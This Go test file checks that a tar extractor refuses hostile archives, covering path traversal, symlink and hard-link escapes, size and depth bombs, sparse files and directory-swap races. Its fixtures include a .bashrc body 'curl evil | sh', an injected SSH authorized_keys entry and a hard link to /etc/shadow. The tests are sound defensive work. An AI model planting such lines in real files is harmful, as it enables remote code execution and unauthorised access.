//go:build linux || darwin

package copytar

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sonix-run/sonix-run/agent/internal/treetest"
)

// archive builds a tar archive; a regular file's body is given as its
// Linkname, for brevity.
func archive(t testing.TB, entries ...tar.Header) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range entries {
		h := h
		body := []byte(nil)
		if h.Typeflag == tar.TypeReg {
			body = []byte(h.Linkname)
			h.Linkname, h.Size = "", int64(len(body))
		}
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		tw.Write(body)
	}
	tw.Close()
	return buf.Bytes()
}

var (
	t0 = treetest.T0
	t1 = time.Date(2023, 6, 7, 8, 9, 10, 123456000, time.UTC)
)

func dir(name string) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: 0o755, ModTime: t1, Format: tar.FormatPAX}
}
func dirMode(name string, mode int64) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: mode, ModTime: t1, Format: tar.FormatPAX}
}
func file(name, body string, mode int64) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: mode, Linkname: body, ModTime: t1, Format: tar.FormatPAX}
}
func link(name, target string) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeSymlink, Linkname: target, ModTime: t1, Format: tar.FormatPAX}
}

// headerOnly is an archive whose last header declares more data than
// follows (size bytes), as a hostile sender can.
func headerOnly(t testing.TB, prefix []tar.Header, h tar.Header, data int) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, p := range prefix {
		p := p
		body := []byte(nil)
		if p.Typeflag == tar.TypeReg {
			body = []byte(p.Linkname)
			p.Linkname, p.Size = "", int64(len(body))
		}
		tw.WriteHeader(&p)
		tw.Write(body)
	}
	if err := tw.WriteHeader(&h); err != nil {
		t.Fatal(err)
	}
	buf.Write(make([]byte, data))
	return buf.Bytes()
}

func manyEntries(n int) []tar.Header {
	hs := []tar.Header{dir("top/")}
	for i := 0; i < n; i++ {
		hs = append(hs, file(fmt.Sprintf("top/f%d", i), "x", 0o644))
	}
	return hs
}

func deep(n int) []tar.Header {
	hs := []tar.Header{dir("top/")}
	name := "top"
	for i := 0; i < n; i++ {
		name += "/d"
		hs = append(hs, dir(name+"/"))
	}
	return hs
}

// hostileArchives are refused; each is checked against a home-like
// destination that must come out as it was.
func hostileArchives(t testing.TB) []struct {
	name string
	data []byte
	opt  Options
	want string
} {
	bigPAX := tar.Header{Name: "top/f", Typeflag: tar.TypeReg, Mode: 0o644, ModTime: t1, PAXRecords: map[string]string{"comment": strings.Repeat("x", 200<<10)}}
	return []struct {
		name string
		data []byte
		opt  Options
		want string
	}{
		{"renamed top", archive(t, file(".bashrc", "curl evil | sh\n", 0o644)), Options{Top: "messages"}, `top-level entry is ".bashrc", but "messages" was asked for`},
		{"ssh merge", archive(t, dirMode(".ssh/", 0o777), file(".ssh/authorized_keys", "ssh-ed25519 AAAA evil\n", 0o666)), Options{Top: "messages"}, `top-level entry is ".ssh", but "messages" was asked for`},
		{"dot-dot", archive(t, dir("top/"), file("top/../../x", "evil", 0o644)), Options{}, "components are refused"},
		{"dot-dot top", archive(t, file("../x", "evil", 0o644)), Options{}, "components are refused"},
		{"dot-dot deeper", archive(t, dir("top/"), file("top/a/../../../.bashrc", "evil", 0o644)), Options{}, "components are refused"},
		{"absolute", archive(t, file("/x", "evil", 0o644)), Options{}, "absolute names are refused"},
		{"absolute later", archive(t, dir("top/"), file("top/ok", "ok", 0o644), file("/tmp/evil", "evil", 0o644)), Options{}, "absolute names are refused"},
		{"dot", archive(t, dir("top/"), file("top/./x", "", 0o644)), Options{}, "components are refused"},
		{"double slash", archive(t, dir("top/"), file("top//x", "", 0o644)), Options{}, "components are refused"},
		{"write through a link", archive(t, dir("top/"), link("top/l", ".."), file("top/l/.bashrc", "evil", 0o644)), Options{}, `"top/l" is not a directory (symbolic links are not followed)`},
		{"dir through a link", archive(t, dir("top/"), link("top/l", "/"), dir("top/l/x/")), Options{}, "is not a directory"},
		{"link replaced by a dir", archive(t, dir("top/"), link("top/l", ".."), dir("top/l/")), Options{}, "cannot overwrite what is there, not a directory, with a directory"},
		{"dir replaced by a file", archive(t, dir("top/"), dir("top/d/"), file("top/d", "x", 0o644)), Options{}, "cannot overwrite a directory with a file"},
		{"file replaced by a dir", archive(t, dir("top/"), file("top/f", "x", 0o644), dir("top/f/")), Options{}, "not a directory, with a directory"},
		{"missing parent", archive(t, dir("top/"), file("top/a/b", "x", 0o644)), Options{}, "does not exist (an entry must come after its directory)"},
		{"two tops", archive(t, file("a", "", 0o644), file("b", "", 0o644)), Options{}, "not under the top-level entry"},
		{"top twice", archive(t, dir("top/"), dir("top/")), Options{}, "the top-level entry comes twice"},
		{"child first", archive(t, file("top/x", "", 0o644), dir("top/")), Options{}, "is not its top-level entry"},
		{"under a file", archive(t, file("top", "", 0o644), file("top/x", "", 0o644)), Options{}, "is not a directory"},
		{"hard link", archive(t, dir("top/"), tar.Header{Name: "top/h", Typeflag: tar.TypeLink, Linkname: ".bashrc"}), Options{}, "hard links are refused"},
		{"hard link top", archive(t, tar.Header{Name: "top", Typeflag: tar.TypeLink, Linkname: "/etc/shadow"}), Options{}, "hard links are refused"},
		{"fifo", archive(t, tar.Header{Name: "f", Typeflag: tar.TypeFifo}), Options{}, "is not supported"},
		{"device", archive(t, dir("top/"), tar.Header{Name: "top/sda", Typeflag: tar.TypeBlock, Devmajor: 8}), Options{}, "is not supported"},
		{"empty link", archive(t, link("l", "")), Options{}, "empty target"},
		{"long link", archive(t, link("l", strings.Repeat("a/", 2100))), Options{}, "a symbolic link target of 4200 bytes"},
		{"long name", archive(t, dir("top/"), file("top/"+strings.Repeat("d/", 2100)+"x", "", 0o644)), Options{}, "a name of 4205 bytes"},
		{"long component", archive(t, dir("top/"), file("top/"+strings.Repeat("n", 300), "", 0o644)), Options{}, "a component of 300 bytes"},
		{"empty", nil, Options{}, "the archive is empty"},
		{"garbage", []byte(strings.Repeat("not a tar archive ", 100)), Options{}, "reading the archive"},
		{"sparse", sparseArchive(), Options{}, "sparse files are not supported"},
		{"huge declared size", headerOnly(t, []tar.Header{dir("top/")}, tar.Header{Name: "top/huge", Typeflag: tar.TypeReg, Mode: 0o644, Size: 1 << 50, Format: tar.FormatPAX}, 4096), Options{MaxBytes: 8 << 30}, "goes past its bound of 8 GiB of file data"},
		{"more bytes than the bound", archive(t, dir("top/"), file("top/a", strings.Repeat("a", 600), 0o644), file("top/b", strings.Repeat("b", 600), 0o644)), Options{MaxBytes: 1024}, `archive entry "top/b": the copy goes past its bound of 1 KiB of file data`},
		{"too many entries", archive(t, manyEntries(20)...), Options{MaxEntries: 10}, "goes past its bound of 10 entries"},
		{"too deep", archive(t, deep(40)...), Options{MaxDepth: 32}, "goes past its bound of 32 levels of directories"},
		{"header over the budget", archive(t, dir("top/"), bigPAX), Options{}, "takes more than 64 KiB"},
		{"cut inside a file", headerOnly(t, []tar.Header{dir("top/")}, tar.Header{Name: "top/f", Typeflag: tar.TypeReg, Mode: 0o644, Size: 10000}, 3000), Options{}, "the archive ended inside it"},
		{"junk after the end", append(archive(t, dir("top/"), file("top/f", "x", 0o644)), make([]byte, 100<<10)...), Options{}, "more than 64 KiB of data after the archive's end"},
		{"top file then junk", append(archive(t, file("top", "x", 0o644)), bytes.Repeat([]byte{1}, 100<<10)...), Options{}, "after the archive's end"},
		{"SRC/ but a file", archive(t, file("top", "x", 0o644)), Options{TopDir: true}, `"top" is a file, but a directory was asked for`},
		{"contents but a file", archive(t, file(".", "x", 0o644)), Options{}, "is a file"},
	}
}

func TestExtractRefusesHostileArchives(t *testing.T) {
	for _, tc := range hostileArchives(t) {
		t.Run(tc.name, func(t *testing.T) {
			home := treetest.HomeLike(t)
			outer := treetest.Snapshot(t, filepath.Dir(home))
			before := treetest.Snapshot(t, home)
			err := Extract(bytes.NewReader(tc.data), home, tc.opt)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
			// Refused at the first entry: not even the directory's time
			// changed. Else a temporary entry came and went.
			treetest.Same(t, before, treetest.Snapshot(t, home), tc.opt.Top != "")
			o := treetest.Snapshot(t, filepath.Dir(home))
			for k := range o {
				if _, ok := outer[k]; !ok && !strings.HasPrefix(k, "home/") {
					t.Errorf("%s appeared outside the destination", k)
				}
			}
			if _, err := os.Lstat("/x"); err == nil {
				t.Fatal("/x exists")
			}
		})
	}
}

// sparseArchive is a GNU sparse (PAX 1.0) file of 1 TiB of zeros in a
// few blocks; archive/tar's Writer cannot make one, so it is built here.
func sparseArchive() []byte {
	var buf bytes.Buffer
	block := func(name string, typ byte, size int) {
		b := make([]byte, 512)
		copy(b, name)
		copy(b[100:], "0000644\x00")
		copy(b[108:], "0000000\x00")
		copy(b[116:], "0000000\x00")
		copy(b[124:], fmt.Sprintf("%011o\x00", size))
		copy(b[136:], "00000000000\x00")
		b[156] = typ
		copy(b[257:], "ustar\x0000")
		copy(b[148:], "        ")
		sum := 0
		for _, c := range b {
			sum += int(c)
		}
		copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
		buf.Write(b)
	}
	pad := func() { buf.Write(make([]byte, (512-buf.Len()%512)%512)) }
	var recs string
	for _, kv := range [][2]string{{"GNU.sparse.major", "1"}, {"GNU.sparse.minor", "0"}, {"GNU.sparse.name", "s"}, {"GNU.sparse.realsize", "1099511627776"}} {
		rec := " " + kv[0] + "=" + kv[1] + "\n"
		n := len(rec) + 2
		if len(strconv.Itoa(n)+rec) != n {
			n++
		}
		recs += strconv.Itoa(n) + rec
	}
	block("PaxHeaders/s", 'x', len(recs))
	buf.WriteString(recs)
	pad()
	block("s", '0', 512)
	buf.WriteString("1\n0\n0\n") // the sparse map: one empty data region
	pad()
	buf.Write(make([]byte, 1024))
	return buf.Bytes()
}

func TestExtractRefusesSparseFiles(t *testing.T) {
	tr := tar.NewReader(bytes.NewReader(sparseArchive()))
	h, err := tr.Next()
	if err != nil || h.Size != 1<<40 {
		t.Fatalf("the test archive: %+v %v", h, err)
	}
	err = Extract(bytes.NewReader(sparseArchive()), t.TempDir(), Options{})
	if err == nil || !strings.Contains(err.Error(), "sparse files are not supported") {
		t.Fatalf("err %v", err)
	}
}

func TestExtractDoesNotFollowExistingLinks(t *testing.T) {
	outer := t.TempDir()
	dst := filepath.Join(outer, "dst")
	victim := filepath.Join(outer, "victim")
	os.Mkdir(dst, 0o755)
	os.Mkdir(victim, 0o700)
	os.WriteFile(filepath.Join(victim, "f"), []byte("keep"), 0o600)
	before := treetest.Snapshot(t, victim)
	// A link already in the destination, named like the archive's top.
	os.Symlink(victim, filepath.Join(dst, "top"))
	err := Extract(bytes.NewReader(archive(t, dirMode("top/", 0o777), file("top/x", "evil", 0o644))), dst, Options{})
	if err == nil || !strings.Contains(err.Error(), "a symbolic link, with a directory") {
		t.Fatalf("err %v", err)
	}
	// A file over an existing link replaces the link, not its target.
	os.Symlink(filepath.Join(victim, "f"), filepath.Join(dst, "f"))
	if err := Extract(bytes.NewReader(archive(t, file("f", "new", 0o644))), dst, Options{}); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Lstat(filepath.Join(dst, "f")); !fi.Mode().IsRegular() {
		t.Fatal("the link was not replaced")
	}
	// A link inside a directory being merged into, replaced by a file.
	os.Mkdir(filepath.Join(dst, "d"), 0o755)
	os.Symlink(filepath.Join(victim, "f"), filepath.Join(dst, "d", "f"))
	if err := Extract(bytes.NewReader(archive(t, dir("d/"), file("d/f", "new", 0o666))), dst, Options{}); err != nil {
		t.Fatal(err)
	}
	treetest.Same(t, before, treetest.Snapshot(t, victim), true)
}

// TestExtractSemantics: the destination rules of docs/copy.md, as docker
// cp has them.
func TestExtractSemantics(t *testing.T) {
	fileArc := archive(t, file("name", "new", 0o640))
	dirArc := archive(t, dir("name/"), file("name/f", "hi", 0o600), dir("name/sub/"), file("name/sub/g", "g", 0o644))
	contents := archive(t, dir("./"), file("./f", "hi", 0o600), dir("./sub/"), file("./sub/g", "g", 0o644))
	read := func(t *testing.T, p string) string {
		t.Helper()
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	for _, tc := range []struct {
		name  string
		setup func(base string) // base holds "d" (a directory) and "plain" (a file)
		arc   []byte
		opt   Options
		dst   string // relative to base; a trailing slash kept
		want  string // an error, or "" and check
		check func(t *testing.T, base string)
	}{
		{name: "file into a directory", arc: fileArc, dst: "d", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "d/name")) != "new" {
				t.Error("not inside the directory")
			}
		}},
		{name: "file into a directory, trailing slash", arc: fileArc, dst: "d/", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "d/name")) != "new" {
				t.Error("not inside the directory")
			}
		}},
		{name: "file to a new name", arc: fileArc, dst: "new", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "new")) != "new" {
				t.Error("not at the new name")
			}
		}},
		{name: "file over a file: replaced, not written into", setup: func(base string) {
			os.Link(filepath.Join(base, "plain"), filepath.Join(base, "hardlink"))
		}, arc: fileArc, dst: "plain", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "plain")) != "new" || read(t, filepath.Join(base, "hardlink")) != "old" {
				t.Error("not replaced, or written in place")
			}
		}},
		{name: "file over a link: the link replaced", setup: func(base string) {
			os.Symlink("plain", filepath.Join(base, "lnk"))
		}, arc: fileArc, dst: "lnk", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "plain")) != "old" || read(t, filepath.Join(base, "lnk")) != "new" {
				t.Error("wrote through the link")
			}
		}},
		{name: "file over a directory inside", setup: func(base string) {
			os.Mkdir(filepath.Join(base, "d", "name"), 0o755)
		}, arc: fileArc, dst: "d", want: "cannot overwrite the directory"},
		{name: "file to a missing directory", arc: fileArc, dst: "missing/", want: "no such directory"},
		{name: "file to a file with a slash", arc: fileArc, dst: "plain/", want: "not a directory"},
		{name: "missing parent", arc: fileArc, dst: "missing/x", want: "does not exist"},
		{name: "parent is a file", arc: fileArc, dst: "plain/x", want: "not a directory"},
		{name: "directory to a new name", arc: dirArc, dst: "new", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "new/sub/g")) != "g" {
				t.Error("not at the new name")
			}
		}},
		{name: "directory to a missing directory with a slash", arc: dirArc, dst: "new/", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "new/f")) != "hi" {
				t.Error("not created")
			}
		}},
		{name: "directory into a directory", arc: dirArc, dst: "d", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "d/name/sub/g")) != "g" {
				t.Error("not inside")
			}
		}},
		{name: "directory merged into its namesake", setup: func(base string) {
			os.MkdirAll(filepath.Join(base, "d", "name", "sub"), 0o700)
			os.WriteFile(filepath.Join(base, "d", "name", "keep"), []byte("k"), 0o600)
			os.WriteFile(filepath.Join(base, "d", "name", "f"), []byte("old"), 0o600)
		}, arc: dirArc, dst: "d", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "d/name/keep")) != "k" || read(t, filepath.Join(base, "d/name/f")) != "hi" {
				t.Error("not merged")
			}
			if fi, _ := os.Stat(filepath.Join(base, "d/name/sub")); fi.Mode().Perm() != 0o700 {
				t.Errorf("an existing directory's mode changed: %v", fi.Mode())
			}
		}},
		{name: "directory over a file", arc: dirArc, dst: "plain", want: "cannot overwrite"},
		{name: "directory over a file inside", setup: func(base string) {
			os.WriteFile(filepath.Join(base, "d", "name"), nil, 0o644)
		}, arc: dirArc, dst: "d", want: "a file, with a directory"},
		{name: "contents into a directory", arc: contents, opt: Options{Top: "."}, dst: "d", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "d/f")) != "hi" || read(t, filepath.Join(base, "d/sub/g")) != "g" {
				t.Error("contents not merged into the directory")
			}
			if fi, _ := os.Stat(filepath.Join(base, "d")); fi.Mode().Perm() != 0o751 {
				t.Errorf("the destination's mode changed: %v", fi.Mode())
			}
		}},
		{name: "contents to a new name", arc: contents, opt: Options{Top: "."}, dst: "new", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "new/sub/g")) != "g" {
				t.Error("not created")
			}
		}},
		{name: "contents onto a file", arc: contents, opt: Options{Top: "."}, dst: "plain", want: "cannot overwrite"},
		{name: "the destination through a link", setup: func(base string) {
			os.Symlink("d", filepath.Join(base, "via"))
		}, arc: fileArc, dst: "via", check: func(t *testing.T, base string) {
			if read(t, filepath.Join(base, "d/name")) != "new" {
				t.Error("not through the link")
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			base := t.TempDir()
			os.Mkdir(filepath.Join(base, "d"), 0o751)
			os.Chmod(filepath.Join(base, "d"), 0o751)
			os.WriteFile(filepath.Join(base, "plain"), []byte("old"), 0o644)
			if tc.setup != nil {
				tc.setup(base)
			}
			before := treetest.Snapshot(t, base)
			dst := filepath.Join(base, tc.dst)
			if strings.HasSuffix(tc.dst, "/") {
				dst += "/"
			}
			err := Extract(bytes.NewReader(tc.arc), dst, tc.opt)
			if tc.want != "" {
				if err == nil || !strings.Contains(err.Error(), tc.want) {
					t.Fatalf("err %v, want %q", err, tc.want)
				}
				treetest.Same(t, before, treetest.Snapshot(t, base), false)
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			tc.check(t, base)
			for name := range treetest.Snapshot(t, base) {
				if strings.Contains(name, ".sonix-run-cp-") {
					t.Errorf("%s left behind", name)
				}
			}
		})
	}
}

// withUmask runs f with the process's umask set to mask. The umask is the
// process's: the tests that call it do not run in parallel.
func withUmask(mask int, f func()) {
	old := syscall.Umask(mask)
	defer syscall.Umask(old)
	f()
}

func TestExtractUmask(t *testing.T) {
	arc := archive(t, dirMode("top/", 0o777), file("top/exec", "x", 0o777), file("top/data", "x", 0o666),
		dirMode("top/sub/", 0o777), file("top/sub/private", "x", 0o600), dirMode("top/ro/", 0o555), file("top/ro/f", "x", 0o444),
		file("top/suid", "x", 0o4777), tar.Header{Name: "top/sticky/", Typeflag: tar.TypeDir, Mode: 0o1777, ModTime: t1, Format: tar.FormatPAX})
	for _, tc := range []struct {
		mask int
		keep bool
		want map[string]fs.FileMode
	}{
		{0o022, false, map[string]fs.FileMode{".": fs.ModeDir | 0o755, "exec": 0o755, "data": 0o644, "sub": fs.ModeDir | 0o755, "sub/private": 0o600, "ro": fs.ModeDir | 0o555, "ro/f": 0o444, "suid": 0o755, "sticky": fs.ModeDir | fs.ModeSticky | 0o755}},
		{0o077, false, map[string]fs.FileMode{".": fs.ModeDir | 0o700, "exec": 0o700, "data": 0o600, "sub": fs.ModeDir | 0o700, "ro": fs.ModeDir | 0o500, "ro/f": 0o400, "suid": 0o700, "sticky": fs.ModeDir | fs.ModeSticky | 0o700}},
		// The guest's way (root, like tar -p): exact modes, setuid kept.
		{0o022, true, map[string]fs.FileMode{".": fs.ModeDir | 0o777, "exec": 0o777, "data": 0o666, "ro": fs.ModeDir | 0o555, "suid": fs.ModeSetuid | 0o777, "sticky": fs.ModeDir | fs.ModeSticky | 0o777}},
	} {
		t.Run(fmt.Sprintf("umask %03o keep %v", tc.mask, tc.keep), func(t *testing.T) {
			dst := filepath.Join(t.TempDir(), "out")
			var err error
			withUmask(tc.mask, func() {
				err = Extract(bytes.NewReader(arc), dst, Options{KeepMode: tc.keep, KeepSetID: tc.keep})
			})
			if err != nil {
				t.Fatal(err)
			}
			for name, m := range tc.want {
				fi, err := os.Lstat(filepath.Join(dst, name))
				if err != nil || fi.Mode() != m {
					t.Errorf("%s: %v, want %v (%v)", name, fi.Mode(), m, err)
				}
			}
			for _, name := range []string{".", "exec", "sub", "ro"} {
				if fi, _ := os.Lstat(filepath.Join(dst, name)); !fi.ModTime().Equal(t1) {
					t.Errorf("%s: mtime %v, want the archive's %v", name, fi.ModTime(), t1)
				}
			}
			os.Chmod(filepath.Join(dst, "ro"), 0o755) // so that the test can remove it
		})
	}

	// Merging into existing directories leaves them as they were: the
	// archive's mode and time are not applied to them.
	t.Run("merge", func(t *testing.T) {
		home := treetest.HomeLike(t)
		os.Mkdir(filepath.Join(home, ".ssh", "conf.d"), 0o700)
		os.Chtimes(filepath.Join(home, ".ssh", "conf.d"), t0, t0)
		os.Chtimes(filepath.Join(home, ".ssh"), t0, t0)
		arc := archive(t, dirMode(".ssh/", 0o777), dirMode(".ssh/conf.d/", 0o777), file(".ssh/conf.d/new", "Host *\n", 0o666))
		var err error
		withUmask(0o022, func() { err = Extract(bytes.NewReader(arc), home, Options{Top: ".ssh"}) })
		if err != nil {
			t.Fatal(err)
		}
		ssh, _ := os.Lstat(filepath.Join(home, ".ssh"))
		if ssh.Mode() != fs.ModeDir|0o700 || !ssh.ModTime().Equal(t0) {
			t.Errorf(".ssh: %v %v, want drwx------ and its time %v", ssh.Mode(), ssh.ModTime(), t0)
		}
		conf, _ := os.Lstat(filepath.Join(home, ".ssh", "conf.d"))
		if conf.Mode() != fs.ModeDir|0o700 || conf.ModTime().Equal(t1) {
			// Its entries changed, so the kernel updated its time; the
			// copy did not set the archive's.
			t.Errorf("conf.d: %v %v", conf.Mode(), conf.ModTime())
		}
		if fi, _ := os.Lstat(filepath.Join(home, ".ssh", "conf.d", "new")); fi.Mode() != 0o644 {
			t.Errorf("new: %v, want -rw-r--r--", fi.Mode())
		}
	})
}

// splitReader serves data, running at once before serving byte at.
type splitReader struct {
	data []byte
	off  int
	at   int
	fn   func()
}

func (s *splitReader) Read(p []byte) (int, error) {
	if s.off >= s.at && s.fn != nil {
		s.fn()
		s.fn = nil
	}
	if s.off >= len(s.data) {
		return 0, io.EOF
	}
	end := len(s.data)
	if s.fn != nil && s.at > s.off {
		end = s.at
	}
	n := copy(p, s.data[s.off:end])
	s.off += n
	return n, nil
}

// split builds an archive of before, then after, and says where after
// starts.
func split(t testing.TB, before, after []tar.Header) ([]byte, int) {
	a := archive(t, before...)
	a = a[:len(a)-1024] // without the end blocks
	return append(a, archive(t, after...)...), len(a)
}

// victim is a directory with a private file, outside the destination.
func victim(t testing.TB) (string, map[string]treetest.Node) {
	v := filepath.Join(t.TempDir(), "victim")
	os.Mkdir(v, 0o700)
	os.WriteFile(filepath.Join(v, "secret"), []byte("victim's\n"), 0o600)
	os.Chtimes(filepath.Join(v, "secret"), t0, t0)
	os.Chtimes(v, t0, t0)
	return v, treetest.Snapshot(t, v)
}

// TestExtractSwappedDirectory: a directory that another user replaces by
// a link while the copy runs, at the three moments that matter.
func TestExtractSwappedDirectory(t *testing.T) {
	swap := func(t *testing.T, dir, target string) func() {
		return func() {
			if err := os.Rename(dir, dir+".moved"); err != nil {
				t.Error(err)
			}
			if err := os.Symlink(target, dir); err != nil {
				t.Error(err)
			}
		}
	}
	t.Run("the directory being written", func(t *testing.T) {
		v, before := victim(t)
		build := t.TempDir()
		os.MkdirAll(filepath.Join(build, "top", "sub"), 0o777)
		data, at := split(t, []tar.Header{dirMode("top/", 0o777), dirMode("top/sub/", 0o777), file("top/sub/a", "a", 0o666)},
			[]tar.Header{file("top/sub/secret", "evil", 0o666), dirMode("top/sub/d/", 0o777)})
		err := Extract(&splitReader{data: data, at: at, fn: swap(t, filepath.Join(build, "top", "sub"), v)}, build, Options{})
		// Written into the directory it had open, wherever it went now;
		// then the new directory d, checked at the end, is gone from its
		// path.
		if err == nil || !strings.Contains(err.Error(), "replaced during the copy") {
			t.Errorf("err %v", err)
		}
		treetest.Same(t, before, treetest.Snapshot(t, v), true)
	})
	t.Run("a directory opened again", func(t *testing.T) {
		v, before := victim(t)
		build := t.TempDir()
		os.MkdirAll(filepath.Join(build, "top"), 0o777)
		data, at := split(t, []tar.Header{dirMode("top/", 0o777), dirMode("top/d1/", 0o777), dirMode("top/d2/", 0o777), file("top/d2/x", "x", 0o666)},
			[]tar.Header{file("top/d1/secret", "evil", 0o666)})
		err := Extract(&splitReader{data: data, at: at, fn: swap(t, filepath.Join(build, "top", "d1"), v)}, build, Options{})
		if err == nil || !strings.Contains(err.Error(), `"top/d1" is not a directory (symbolic links are not followed)`) {
			t.Errorf("err %v", err)
		}
		treetest.Same(t, before, treetest.Snapshot(t, v), true)
	})
	t.Run("between the last entry and the modes", func(t *testing.T) {
		v, before := victim(t)
		build := t.TempDir()
		os.MkdirAll(filepath.Join(build, "top"), 0o777)
		data := archive(t, dirMode("top/", 0o777), dirMode("top/sub/", 0o777), file("top/sub/f", "f", 0o666))
		// At the stream's end, before the directories get their modes.
		err := Extract(&splitReader{data: data, at: len(data), fn: swap(t, filepath.Join(build, "top", "sub"), v)}, build, Options{})
		if err == nil || !strings.Contains(err.Error(), "replaced during the copy") {
			t.Errorf("err %v", err)
		}
		treetest.Same(t, before, treetest.Snapshot(t, v), true)
		// Also with a file as the victim.
		fv := filepath.Join(v, "secret")
		os.Remove(filepath.Join(build, "top", "sub"))
		os.RemoveAll(filepath.Join(build, "top", "sub.moved"))
		err = Extract(&splitReader{data: data, at: len(data), fn: swap(t, filepath.Join(build, "top", "sub"), fv)}, build, Options{})
		if err == nil || !strings.Contains(err.Error(), "replaced during the copy") {
			t.Errorf("err %v", err)
		}
		treetest.Same(t, before, treetest.Snapshot(t, v), true)
	})
}

// TestExtractSwapRace: while copies run into a directory that another
// user can write, that user keeps replacing a subdirectory, and a file,
// with links to a victim directory and file outside. The victim never
// changes.
func TestExtractSwapRace(t *testing.T) {
	v, before := victim(t)
	build := t.TempDir()
	entries := []tar.Header{dirMode("top/", 0o777), dirMode("top/sub/", 0o777)}
	for i := 0; i < 8; i++ {
		entries = append(entries, file(fmt.Sprintf("top/sub/f%d", i), "evil", 0o777))
	}
	entries = append(entries, file("top/sub/secret", "evil", 0o777), dirMode("top/sub/d/", 0o777), file("top/sub/d/secret", "evil", 0o777))
	arc := archive(t, entries...)
	iterations := 300
	if testing.Short() {
		iterations = 50
	}
	ok, failed := 0, 0
	for i := 0; i < iterations; i++ {
		os.RemoveAll(filepath.Join(build, "top"))
		if i%2 == 0 {
			os.MkdirAll(filepath.Join(build, "top", "sub"), 0o777) // merged into
		}
		stop := make(chan struct{})
		done := make(chan struct{})
		go func() {
			defer close(done)
			for n := 0; ; n++ {
				select {
				case <-stop:
					return
				default:
				}
				// Whatever is named sub or secret under build, moved
				// aside and replaced by a link to the victim, then put
				// back.
				matches, _ := filepath.Glob(filepath.Join(build, "*", "sub"))
				more, _ := filepath.Glob(filepath.Join(build, "*", "sub", "secret"))
				for _, m := range append(matches, more...) {
					target := v
					if filepath.Base(m) == "secret" {
						target = filepath.Join(v, "secret")
					}
					if os.Rename(m, m+".x") == nil {
						os.Symlink(target, m)
						os.Remove(m)
						os.Rename(m+".x", m)
					}
				}
			}
		}()
		err := Extract(bytes.NewReader(arc), build, Options{})
		close(stop)
		<-done
		if err == nil {
			ok++
		} else {
			failed++
		}
		treetest.Same(t, before, treetest.Snapshot(t, v), true)
		if t.Failed() {
			t.Fatalf("iteration %d: the victim changed (err %v)", i, err)
		}
	}
	t.Logf("%d copies succeeded, %d failed; the victim never changed", ok, failed)
}

func TestWriteRoundTrip(t *testing.T) {
	src := filepath.Join(t.TempDir(), "src")
	os.Mkdir(src, 0o750)
	os.WriteFile(filepath.Join(src, "a"), []byte("aaa"), 0o640)
	os.Symlink("a", filepath.Join(src, "l"))
	os.Mkdir(filepath.Join(src, "sub"), 0o700)
	os.WriteFile(filepath.Join(src, "sub", "b"), []byte("b"), 0o600)
	os.Symlink("src", filepath.Join(filepath.Dir(src), "dirlink"))
	for _, tc := range []struct{ src, top, check string }{
		{src, "src", "copy/a"},
		{src + "/", "src", "copy/a"},
		{src + "/.", ".", "copy/a"},
		{filepath.Join(src, "l"), "l", "copy"},
		{filepath.Join(filepath.Dir(src), "dirlink") + "/", "dirlink", "copy/a"}, // LINK/: the directory
	} {
		var buf bytes.Buffer
		if err := Write(&buf, tc.src); err != nil {
			t.Fatal(err)
		}
		tr := tar.NewReader(bytes.NewReader(buf.Bytes()))
		if h, err := tr.Next(); err != nil || strings.TrimSuffix(h.Name, "/") != tc.top {
			t.Errorf("%s: first entry %v %v, want %q", tc.src, h.Name, err, tc.top)
		}
		dst := filepath.Join(t.TempDir(), "copy")
		if err := Extract(&buf, dst, Options{Top: tc.top}); err != nil {
			t.Fatalf("%s: %v", tc.src, err)
		}
		if tc.check == "copy" {
			if l, _ := os.Readlink(dst); l != "a" {
				t.Errorf("%s: the link itself was not copied: %q", tc.src, l)
			}
			continue
		}
		if b, _ := os.ReadFile(filepath.Join(filepath.Dir(dst), tc.check)); string(b) != "aaa" {
			t.Errorf("%s: contents", tc.src)
		}
		if l, _ := os.Readlink(filepath.Join(dst, "l")); l != "a" {
			t.Errorf("%s: link", tc.src)
		}
		if b, _ := os.ReadFile(filepath.Join(dst, "sub", "b")); string(b) != "b" {
			t.Errorf("%s: sub/b", tc.src)
		}
	}
	var buf bytes.Buffer
	if err := Write(&buf, "/"); err == nil || !strings.Contains(err.Error(), "must end in a name") {
		t.Fatalf("the root: %v", err)
	}
	if err := Write(&buf, filepath.Join(src, "a")+"/"); err == nil || !strings.Contains(err.Error(), "not a directory") {
		t.Fatalf("a file with a trailing slash: %v", err)
	}
	if err := Write(&buf, filepath.Join(src, "missing")); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("a missing source: %v", err)
	}
}

// writeWithin runs Write in the background and fails the test if it has
// not returned within a generous bound: a hang is the failure looked for.
func writeWithin(t *testing.T, src string) ([]byte, error) {
	t.Helper()
	type result struct {
		b   []byte
		err error
	}
	ch := make(chan result, 1)
	go func() {
